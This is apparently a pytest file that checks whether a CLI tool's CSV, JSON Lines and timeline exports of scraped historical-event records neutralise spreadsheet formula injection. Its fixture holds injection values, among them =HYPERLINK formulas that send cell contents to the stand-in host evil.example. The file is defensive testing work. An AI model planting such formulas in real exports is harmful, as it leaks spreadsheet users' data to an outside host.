"""Exports as a team opens them: CSV in a spreadsheet, JSON Lines in other tools, TimelineJS in its viewer."""

from __future__ import annotations

import csv
import io
import json

from click.testing import CliRunner

from detente.cli import cli

# A scraped record whose id, title and sentences begin like spreadsheet formulas.
HOSTILE = {
    "id": '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "title": "@SUM(1+1)*cmd",
    "text": (
        '=HYPERLINK("http://evil.example","x") In November 1933 the United States established diplomatic '
        "relations with the Soviet Union.\n\n"
        '+In 1949 the Soviet Union detonated its first atomic bomb, and "the West"\nsaid so.\n'
    ),
}


def _extract(tmp_path, fmt: str) -> str:
    path = tmp_path / "hostile.jsonl"
    path.write_text(json.dumps(HOSTILE) + "\n", encoding="utf-8")
    result = CliRunner().invoke(cli, ["extract", str(path), "--format", fmt], catch_exceptions=False)
    assert result.exit_code == 0, result.output
    return result.stdout


def test_csv_cells_that_look_like_formulas_are_not_formulas(tmp_path):
    rows = list(csv.DictReader(io.StringIO(_extract(tmp_path, "csv"))))
    assert len(rows) >= 2
    for row in rows:
        for column, value in row.items():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), (column, value)
    # the text is kept: only a leading apostrophe tells the spreadsheet it is text
    assert rows[0]["doc"] == "'" + HOSTILE["id"]
    assert rows[0]["title"] == "'" + HOSTILE["title"]
    assert any(row["evidence"].startswith("'=HYPERLINK(") for row in rows)
    # numbers stay numbers, negative ones too
    assert any(float(row["goldstein"]) < 0 for row in rows)


def test_csv_quotes_quotes_and_newlines(tmp_path):
    rows = list(csv.reader(io.StringIO(_extract(tmp_path, "csv"))))
    header, body = rows[0], rows[1:]
    assert all(len(row) == len(header) for row in body)
    evidence = [row[header.index("evidence")] for row in body]
    assert any('"the West"' in text for text in evidence)


def test_jsonl_keeps_the_text_as_it_is(tmp_path):
    records = [json.loads(line) for line in _extract(tmp_path, "jsonl").splitlines()]
    assert records[0]["doc"] == HOSTILE["id"]
    assert records[0]["title"] == HOSTILE["title"]
